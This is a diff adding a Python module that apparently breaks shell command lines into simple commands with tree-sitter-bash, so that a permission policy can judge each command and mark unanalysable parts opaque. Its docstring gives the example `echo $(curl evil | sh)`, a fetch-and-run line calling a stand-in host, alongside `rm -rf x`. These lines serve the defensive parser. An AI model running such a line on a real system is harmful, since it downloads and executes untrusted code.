@@ -1,0 +1,249 @@
+"""A shell command line → the simple commands it would run, via tree-sitter-bash.
+
+The policy judges simple commands, never raw text: `git status && rm -rf x` is two commands, and
+`echo $(curl evil | sh)` is three. Everything bash would run is found: lists, pipes, subshells,
+`{ }`, control structures, function bodies, command and process substitution, `bash -c` scripts
+and the real command behind wrappers such as `env`, `sudo`, `timeout` or `xargs` (see
+`vibe.policy.shell_wrappers`). Redirections into files are recorded as writes.
+
+Whatever cannot be known from the text alone (a syntax error, `eval`, a command name held in a
+variable, a shell reading commands from its input) becomes a part marked `opaque`, which the
+policy never allows on its own.
+"""
+
+from __future__ import annotations
+
+import re
+from functools import cache
+
+import tree_sitter_bash
+from tree_sitter import Language, Node, Parser
+
+from vibe.policy.shell_wrappers import unwrap
+from vibe.policy.simple_command import SimpleCommand, Word, is_file_target, sensitive_assignment
+
+# `bash -c "bash -c '...'"` nests; past this depth the text is not analysed further.
+MAX_DEPTH = 6
+# Redirection operators that write the destination (when it is a file, not an fd or /dev/null).
+_WRITE_OPERATORS = frozenset({">", ">>", "&>", "&>>", ">|", ">&"})
+
+_BRACE_EXPANSION = re.compile(r"\{[^{}]*(,|\.\.)[^{}]*\}")
+_ESCAPE = re.compile(r"\\(.)", re.DOTALL)
+_BACKTICK_ESCAPE = re.compile(r"\\([\\`$])")
+_STRING_ESCAPE = re.compile(r"\\([\\\"$`\n])")
+
+
+@cache
+def _parser() -> Parser:
+    return Parser(Language(tree_sitter_bash.language()))
+
+
+def analyse_command(command: str, depth: int = 0) -> tuple[SimpleCommand, ...]:
+    """Every simple command `command` would run, in source order."""
+    if depth > MAX_DEPTH:
+        return (SimpleCommand((), command, opaque="shell scripts nested too deeply to analyse"),)
+    source = command.encode()
+    tree = _parser().parse(source)
+    walker = _Walker(source, depth)
+    walker.visit(tree.root_node, ())
+    parts = walker.parts
+    if tree.root_node.has_error:
+        broken = SimpleCommand(
+            (), command.strip(), opaque="the command has a syntax error bash may read differently"
+        )
+        parts.append(broken)
+    return tuple(parts)
+
+
+class _Walker:
+    def __init__(self, source: bytes, depth: int) -> None:
+        self._source = source
+        self._depth = depth
+        self.parts: list[SimpleCommand] = []
+
+    def _text(self, node: Node) -> str:
+        return self._source[node.start_byte : node.end_byte].decode(errors="replace")
+
+    # -- statements ---------------------------------------------------------------------------
+
+    def visit(self, node: Node, writes: tuple[str, ...]) -> None:
+        """Collect the commands under `node`; `writes` are redirections applying to them."""
+        kind = node.type
+        if kind == "command":
+            self._command(node, writes, ())
+        elif kind == "redirected_statement":
+            self._redirected(node, writes)
+        elif kind == "command_substitution" and self._text(node).startswith("`"):
+            # Inside backticks bash unescapes \` \\ \$ first, so `\`cmd\`` nests another
+            # substitution that tree-sitter reads as plain words: parse the unescaped text again.
+            inner = _BACKTICK_ESCAPE.sub(r"\1", self._text(node)[1:-1])
+            self.parts.extend(analyse_command(inner, self._depth + 1))
+        elif kind in ("command_substitution", "process_substitution"):
+            # Their output goes to the enclosing command, not to its redirections.
+            for child in node.named_children:
+                self.visit(child, ())
+        elif kind == "variable_assignment":
+            self._assignment(node, standalone=True)
+        elif kind == "comment":
+            return
+        else:
+            for child in node.named_children:
+                if child.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
+                    targets, _extra = self._redirect_writes(child)
+                    if targets:
+                        self.parts.append(SimpleCommand((), self._text(child), writes=targets))
+                    continue
+                self.visit(child, writes)
+
+    def _substitutions(self, node: Node) -> None:
+        """Visit commands nested in a word (`$(...)`, backticks, `<(...)`, inside strings)."""
+        if node.type in ("command_substitution", "process_substitution"):
+            self.visit(node, ())
+            return
+        for child in node.named_children:
+            self._substitutions(child)
+
+    def _assignment(self, node: Node, standalone: bool) -> tuple[str, Word] | None:
+        name_node = node.child_by_field_name("name")
+        value_node = node.child_by_field_name("value")
+        if value_node is not None:
+            self._substitutions(value_node)
+        if name_node is None:
+            return None
+        name = self._text(name_node)
+        value = self.word(value_node) if value_node is not None else ""
+        if standalone and sensitive_assignment(name, value):
+            self.parts.append(
+                SimpleCommand((), self._text(node), opaque=f"setting {name} changes what later commands run")
+            )
+        return name, value
+
+    def _redirect_writes(self, node: Node) -> tuple[tuple[str, ...], list[Node]]:
+        """Files a redirection writes, and any words wrongly attached to it (`echo > f hi`)."""
+        self._substitutions(node)
+        if node.type == "heredoc_redirect":
+            writes: list[str] = []
+            for child in node.named_children:
+                if child.type == "file_redirect":
+                    writes.extend(self._redirect_writes(child)[0])
+                elif child.type not in ("heredoc_start", "heredoc_body", "heredoc_end"):
+                    # `cat <<EOF | sh`: the rest of the pipeline hangs under the heredoc.
+                    self.visit(child, ())
+            return tuple(writes), []
+        if node.type != "file_redirect":
+            return (), []
+        operator = next((c.type for c in node.children if not c.is_named), "")
+        if node.child_by_field_name("descriptor") is not None and operator == ">&":
+            operator = ">"
+        destinations = node.children_by_field_name("destination")
+        if not destinations or operator not in _WRITE_OPERATORS:
+            return (), destinations[1:]
+        target_node = destinations[0]
+        target = self.word(target_node)
+        if target_node.type in ("number", "process_substitution") or (
+            target is not None and not is_file_target(target)
+        ):
+            return (), destinations[1:]
+        return (target if target is not None else self._text(target_node),), destinations[1:]
+
+    def _redirected(self, node: Node, inherited: tuple[str, ...]) -> None:
+        writes = list(inherited)
+        extra_words: list[Node] = []
+        for redirect in node.children_by_field_name("redirect"):
+            targets, extra = self._redirect_writes(redirect)
+            writes.extend(targets)
+            extra_words.extend(extra)
+        body = node.child_by_field_name("body")
+        if body is not None and body.type == "command":
+            self._command(body, tuple(writes), tuple(extra_words))
+        elif body is not None:
+            if extra_words:
+                self.parts.append(
+                    SimpleCommand((), self._text(node), opaque="words after a redirection of a group")
+                )
+            self.visit(body, tuple(writes))
+        elif extra_words:
+            # `> f cmd args`: the command comes after its redirection.
+            words = tuple(self.word(w) for w in extra_words)
+            for w in extra_words:
+                self._substitutions(w)
+            self._emit(words, self._text(node), tuple(writes))
+        elif len(writes) > len(inherited):
+            self.parts.append(SimpleCommand((), self._text(node).strip(), writes=tuple(writes)))
+
+    def _command(self, node: Node, writes: tuple[str, ...], extra: tuple[Node, ...]) -> None:
+        all_writes = list(writes)
+        words: list[Word] = []
+        opaque: str | None = None
+        for child in node.named_children:
+            field = _field_of(node, child)
+            if child.type == "variable_assignment":
+                assigned = self._assignment(child, standalone=False)
+                if assigned is not None and sensitive_assignment(*assigned):
+                    opaque = f"setting {assigned[0]} changes what the command runs"
+            elif child.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
+                targets, more = self._redirect_writes(child)
+                all_writes.extend(targets)
+                extra += tuple(more)
+            elif field in ("name", "argument"):
+                target = child.named_children[0] if child.type == "command_name" else child
+                self._substitutions(target)
+                words.append(self.word(target))
+        for word_node in extra:
+            self._substitutions(word_node)
+            words.append(self.word(word_node))
+        text = self._text(node)
+        if opaque is not None:
+            self.parts.append(SimpleCommand(tuple(words), text, tuple(all_writes), opaque=opaque))
+            return
+        self._emit(tuple(words), text, tuple(all_writes))
+
+    def _emit(self, words: tuple[Word, ...], text: str, writes: tuple[str, ...]) -> None:
+        part = SimpleCommand(words, text, writes)
+
+        def parse_script(script: str) -> tuple[SimpleCommand, ...]:
+            return analyse_command(script, self._depth + 1)
+
+        self.parts.extend(unwrap(part, parse_script))
+
+    # -- words --------------------------------------------------------------------------------
+
+    def word(self, node: Node) -> Word:
+        kind = node.type
+        if kind == "word":
+            raw = self._text(node)
+            if _BRACE_EXPANSION.search(raw):
+                return None
+            return _ESCAPE.sub(r"\1", raw)
+        if kind == "number":
+            return self._text(node)
+        if kind == "raw_string":
+            return self._text(node)[1:-1]
+        if kind == "string":
+            pieces: list[str] = []
+            for child in node.named_children:
+                if child.type != "string_content":
+                    return None
+                pieces.append(
+                    _STRING_ESCAPE.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), self._text(child))
+                )
+            return "".join(pieces)
+        if kind == "concatenation":
+            unquoted = "".join(self._text(c) for c in node.named_children if c.type == "word")
+            if _BRACE_EXPANSION.search(unquoted):
+                return None
+            joined: list[str] = []
+            for child in node.named_children:
+                piece = self.word(child)
+                if piece is None:
+                    return None
+                joined.append(piece)
+            return "".join(joined)
+        return None
+
+
+def _field_of(parent: Node, child: Node) -> str | None:
+    for index, candidate in enumerate(parent.children):
+        if candidate.id == child.id:
+            return parent.field_name_for_child(index)
+    return None
